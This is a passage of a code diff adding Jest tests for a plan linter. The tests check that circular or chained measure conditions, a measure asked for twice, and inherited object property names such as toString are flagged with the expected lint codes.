+        ['a', 'b'],
+        ['b', 'c'],
+        ['c', 'a'],
+      ],
+    ],
+    [
+      'a circle through the measure',
+      [
+        ['sales', 'a'],
+        ['a', 'sales'],
+      ],
+    ],
+    [
+      'a chain, the last asked first',
+      [
+        ['c', 'b'],
+        ['b', 'a'],
+        ['a', 'sales'],
+      ],
+    ],
+    [
+      'a chain, the first asked first',
+      [
+        ['a', 'b'],
+        ['b', 'c'],
+      ],
+    ],
+    ['each of each', pairs],
+  ])('A34 lint looks at measures of measures: %s', (_, asked) => {
+    const kickers = asked.map(([kpi, of]) => ({
+      ...condition(kpi as string, of as string),
+      pays: '7',
+    }))
+    const plan = parsePlan(policyWith({ kickers }))
+    expect(lintPlan(plan).map(({ code }) => code)).toContain('missed-condition')
+  })
+
+  test('A34 lint looks at a measure that is asked for twice, once as a part of the measure', () => {
+    const plan = parsePlan(
+      policyWith({
+        gate: { kpi: 'a', atLeast: '500' },
+        kickers: [{ ...condition('a', 'sales'), pays: '7' }],
+      }),
+    )
+    expect(lintPlan(plan).map(({ code, path }) => `${code} ${path}`)).toContain(
+      'missed-condition gate',
+    )
+  })
+
+  test.each(['toString', 'valueOf', 'hasOwnProperty'])(
+    'A34 lint reads no figure that every object inherits: %s',
+    (name) => {
+      const asked = [condition('sales', name), { kpi: `${name}_`, atLeast: '0.5' }]
+      const kickers = asked.map((each) => ({ ...each, pays: '7' }))
+      const found = lintPlan(parsePlan(policyWith({ kickers, gate: { kpi: 'x', atLeast: '1' } })))
+      expect(found.map(({ code, path }) => `${code} ${path}`)).toContain('cliff kickers[0]')
+    },
+  )
+})
